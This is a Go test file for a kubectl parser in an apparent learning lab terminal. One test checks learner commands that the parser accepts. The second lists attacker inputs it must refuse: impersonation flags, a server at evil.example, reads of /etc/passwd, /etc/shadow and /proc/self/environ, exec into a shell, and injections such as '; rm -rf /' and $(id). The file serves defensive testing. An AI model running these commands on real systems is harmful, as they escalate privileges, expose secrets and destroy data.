package kubectl

import (
	"errors"
	"slices"
	"strings"
	"testing"
)

// TestParseRunsWhatALearnerNeeds: the verbs the course uses, written as
// its hints write them ($NS included), run as kubectl reads them.
func TestParseRunsWhatALearnerNeeds(t *testing.T) {
	for _, tt := range []struct {
		line        string
		args        []string
		stdin, long bool
	}{
		{line: "kubectl get databases", args: []string{"get", "databases"}},
		{line: "get db -o wide", args: []string{"get", "db", "-o", "wide"}},
		{line: `kubectl get database orders -n $NS -o jsonpath='{range .status.conditions[*]}{.type}={.status} {.reason}{"\n"}{end}'`,
			args: []string{"get", "database", "orders", "-n", "lab-x", "-o", `jsonpath={range .status.conditions[*]}{.type}={.status} {.reason}{"\n"}{end}`}},
		{line: `kubectl patch database orders --type=merge -p '{"spec":{"replicas":2}}'`, args: []string{"patch", "database", "orders", "--type=merge", "-p", `{"spec":{"replicas":2}}`}},
		{line: "kubectl apply -f -", args: []string{"apply", "-f", "-"}, stdin: true},
		{line: "kubectl diff --filename=-", args: []string{"diff", "--filename=-"}, stdin: true},
		{line: "kubectl get databases -w", args: []string{"get", "databases", "-w"}, long: true},
		{line: "kubectl logs orders-0 -f", args: []string{"logs", "orders-0", "-f"}, long: true},
		{line: "kubectl wait --for=condition=Ready database/orders --timeout=30s", args: []string{"wait", "--for=condition=Ready", "database/orders", "--timeout=30s"}, long: true},
		{line: "kubectl auth can-i delete statefulsets", args: []string{"auth", "can-i", "delete", "statefulsets"}},
		{line: "kubectl auth whoami", args: []string{"auth", "whoami"}},
		{line: "kubectl scale statefulset orders --replicas=0", args: []string{"scale", "statefulset", "orders", "--replicas=0"}},
		{line: "kubectl annotate database orders db.oplab.dev/pods=crash-loop", args: []string{"annotate", "database", "orders", "db.oplab.dev/pods=crash-loop"}},
		{line: `kubectl get events --field-selector "involvedObject.name=orders"`, args: []string{"get", "events", "--field-selector", "involvedObject.name=orders"}},
		{line: `kubectl explain database.spec`, args: []string{"explain", "database.spec"}},
		{line: `kubectl get pods -n "${NS}"`, args: []string{"get", "pods", "-n", "lab-x"}},
	} {
		cmd, err := Parse(tt.line, "lab-x")
		if err != nil {
			t.Errorf("Parse(%q) = %v, want it to run", tt.line, err)
			continue
		}
		if !slices.Equal(cmd.Args, tt.args) || cmd.Stdin != tt.stdin || cmd.Long != tt.long {
			t.Errorf("Parse(%q) = %q stdin %v long %v, want %q stdin %v long %v", tt.line, cmd.Args, cmd.Stdin, cmd.Long, tt.args, tt.stdin, tt.long)
		}
	}
}

// TestParseRefusesEveryWayOut tries, as an attacker would, each way past
// the terminal's boundaries: another identity, a file or URL of the
// server's, a listener, a shell, a plugin. Each is refused, and the
// refusal says why in the words given.
func TestParseRefusesEveryWayOut(t *testing.T) {
	for _, tt := range []struct{ line, why string }{
		// Another identity.
		{"kubectl --kubeconfig /root/.kube/config get secrets -A", "your lab's ServiceAccount"},
		{"kubectl get pods --token=abc", "--token is not offered"},
		{"kubectl get pods --as=system:admin", "--as is not offered"},
		{"kubectl get pods --as-group system:masters", "--as-group is not offered"},
		{"kubectl get pods -s https://10.0.0.1", "--s is not offered"},
		{"kubectl --server=https://evil.example get pods", "--server is not offered"},
		{"kubectl --context admin get pods", "--context is not offered"},
		{"kubectl get pods --insecure-skip-tls-verify", "not offered"},
		{"kubectl get pods --client-key /etc/oplab/key", "not offered"},
		// A file or a URL of the server's.
		{"kubectl apply -f /etc/passwd", "reads the editor below"},
		{"kubectl apply -f https://evil.example/x.yaml", "fetches no URL"},
		{"kubectl apply --filename=/proc/self/environ", "reads no file"},
		{"kubectl apply -Rf /etc", "reads no file"},
		{"kubectl apply -f/etc/passwd", "reads no file"},
		{"kubectl delete -f=/etc/passwd", "reads no file"},
		{"kubectl apply -k .", "reads a folder"},
		{"kubectl patch database x --patch-file /etc/shadow", "--patch-file reads a file"},
		{"kubectl get pods -o jsonpath-file=/etc/passwd", "reads a file"},
		{"kubectl get pods -o=go-template-file=/etc/passwd", "reads a file"},
		{"kubectl get pods --output custom-columns-file=/etc/passwd", "reads a file"},
		{"kubectl get pods --cache-dir /tmp/x", "the computer kubectl runs on"},
		{"kubectl get pods --log-file /tmp/x", "the computer kubectl runs on"},
		{"kubectl get pods -v=9", "not offered"},
		// A listener, a shell, a program.
		{"kubectl proxy --port 8001", "opens no listener"},
		{"kubectl port-forward pod/x 5432", "opens no listener"},
		{"kubectl exec -it orders-0 -- sh", "starts none"},
		{"kubectl attach orders-0", "opens none"},
		{"kubectl cp orders-0:/etc/passwd .", "reads and writes no file"},
		{"kubectl debug orders-0 --image=busybox", "starts none"},
		{"kubectl run x --image=busybox", "Pods are the Databases'"},
		{"kubectl edit database x", "text editor"},
		{"kubectl config view --raw", "one identity"},
		{"kubectl auth reconcile -f rbac.yaml", "can-i and whoami"},
		{"kubectl krew install x", "plugin"},
		{"kubectl evil", "kubectl-evil"},
		{"sh -c id", "runs kubectl only"},
		{"bash", "runs kubectl only"},
		{"kubectl get pods | sh", "no shell here"},
		{"kubectl get pods; rm -rf /", "no shell here"},
		{"kubectl get pods && id", "no shell here"},
		{"kubectl get pods > /tmp/x", "no shell here"},
		{"kubectl get pods $(id)", "no shell here"},
		{"kubectl get pods `id`", "no shell here"},
		{`kubectl get pods -n "$(id)"`, "no shell here"},
		{"kubectl get pods -n $HOME", "no $HOME"},
		{"kubectl get pods -n $KUBECONFIG", "no shell variables"},
		{"kubectl get pods &", "no shell here"},
		{"kubectl get pods 'unclosed", "not closed"},
		{"", "type a kubectl command"},
		{"kubectl", "start with kubectl's verb"},
		{"kubectl --help", "start with kubectl's verb"},
		{strings.Repeat("a", maxLine+1), "characters long"},
	} {
		_, err := Parse(tt.line, "lab-x")
		var r *Refusal
		if !errors.As(err, &r) || !strings.Contains(r.Why, tt.why) {
			t.Errorf("Parse(%.60q) = %v, want a refusal saying %q", tt.line, err, tt.why)
		}
	}
}
